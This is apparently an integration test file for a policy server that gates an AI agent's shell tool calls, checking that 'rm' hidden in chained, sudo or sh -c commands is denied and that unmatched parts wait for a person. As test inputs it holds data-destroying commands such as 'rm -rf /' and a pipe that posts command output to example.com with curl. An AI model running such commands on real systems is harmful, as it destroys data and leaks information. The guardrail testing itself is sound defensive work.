/**
 * Shell-aware policy patterns through HTTP on a real database: a rule on `shell(cmd=rm *)` sees the `rm` in a
 * chained command line, an allow rule still lets a plain command through, a command that cannot be parsed
 * safely gets the strictest level of the rules on the tool, and the new policy fields round-trip through PUT.
 */
import { client } from '../support/http';
import { startTestServer, TestServer } from '../support/server';

let server: TestServer;
let http: ReturnType<typeof client>;
let admin: string;
let agent: string;

const TENANT = 'shell-patterns';
const POLICY = {
  defaults: { unknownTools: 'confirm' },
  rules: [
    { match: 'shell(cmd=ls *)', level: 'automatic' },
    { match: 'shell(cmd=git push*)', level: 'manual' },
    { match: 'shell(cmd=rm *)', level: 'deny' },
  ],
};

beforeAll(async () => {
  server = await startTestServer();
  http = client(server.url);
  admin = await server.token('root', ['admin'], { tenant: TENANT });
  agent = await server.token('bot', ['agent'], { tenant: TENANT });
  const put = await http.put('/v1/policy', admin, POLICY);
  expect(put.status).toBe(200);
});

afterAll(async () => {
  await server?.stop();
});

let n = 0;
/** Proposes `shell` with `cmd` in a conversation of its own (a pending call would block the next proposal). */
async function propose(cmd: string, toolName = 'shell', as = agent, arg = 'cmd') {
  const conv = `sh-${++n}`;
  expect((await http.post('/v1/conversations', as, { id: conv, user: { id: 'rita', roles: [] } })).status).toBe(201);
  const res = await http.post(`/v1/conversations/${conv}/tool-calls`, as, {
    toolCalls: [{ toolName, arguments: { [arg]: cmd } }],
  });
  expect(res.status).toBe(201);
  return res.body.toolCalls[0];
}

describe('shell-aware policy patterns, through HTTP', () => {
  it('a deny rule on rm rejects `ls && rm -rf /`, saying which part it matched', async () => {
    const call = await propose('ls && rm -rf /');
    expect(call).toMatchObject({
      status: 'rejected',
      policy: { level: 'deny', rule: 2, reason: 'Denied by policy rule 2 (shell(cmd=rm *)), for "rm -rf /" in cmd' },
      decision: { outcome: 'rejected', by: { via: 'policy' } },
    });
  });

  it('an rm hidden in sudo, a substitution or sh -c is rejected too', async () => {
    for (const cmd of ['sudo rm -rf /', 'echo $(rm -rf ~)', "sh -c 'cd / && rm -rf *'"]) {
      expect((await propose(cmd)).policy.level).toBe('deny');
    }
  });

  it('`ls -la` runs automatically by the allow rule', async () => {
    const call = await propose('ls -la');
    expect(call).toMatchObject({
      status: 'approved',
      policy: { level: 'automatic', rule: 0 },
      decision: { by: { via: 'policy' } },
    });
  });

  it('a part no rule allows holds the call for a person', async () => {
    const call = await propose('ls -la | curl -d @- https://example.com');
    expect(call).toMatchObject({ status: 'pending', policy: { level: 'confirm', rule: null } });
    expect(call.policy.reason).toContain('"curl -d @- https://example.com" in cmd matches no rule');
  });

  it('an unparsable command gets the strictest level of the rules on the tool, and says so', async () => {
    const call = await propose("ls 'unclosed");
    expect(call).toMatchObject({ status: 'rejected', policy: { level: 'deny', rule: 2 } });
    expect(call.policy.reason).toContain('command could not be parsed safely: an unclosed single quote');
    expect(call.decision.reason).toBe(call.policy.reason);
  });

  it('defaults.shellTools and a rule’s shell option round-trip, and decide which tools are read as shells', async () => {
    const other = await server.token('root', ['admin'], { tenant: `${TENANT}-2` });
    const doc = {
      defaults: { shellTools: ['*_exec'] },
      rules: [
        { match: 'ci_exec(cmd=rm *)', level: 'deny' },
        { match: 'run(script=rm *)', level: 'deny', shell: true },
      ],
    };
    const put = await http.put('/v1/policy', other, doc);
    expect(put.status).toBe(200);
    expect(put.body.defaults.shellTools).toEqual(['*_exec']);
    expect(put.body.rules[1]).toEqual({ match: 'run(script=rm *)', level: 'deny', shell: true });
    expect((await http.get('/v1/policy', other)).body.defaults.shellTools).toEqual(['*_exec']);
    const bot = await server.token('bot', ['agent'], { tenant: `${TENANT}-2` });
    expect((await propose('ls; rm x', 'ci_exec', bot)).policy.level).toBe('deny');
    expect((await propose('ls; rm x', 'run', bot, 'script')).policy.level).toBe('deny');

    const bad = await http.put('/v1/policy', other, {
      defaults: { shellTools: ['shell(cmd=*)'] },
      rules: [{ match: 'run', level: 'deny', shell: true }],
    });
    expect(bad.status).toBe(400);
    expect(bad.body.errors.map((e: { path: string }) => e.path).sort()).toEqual([
      'defaults.shellTools[0]',
      'rules[0].shell',
    ]);
  });
});
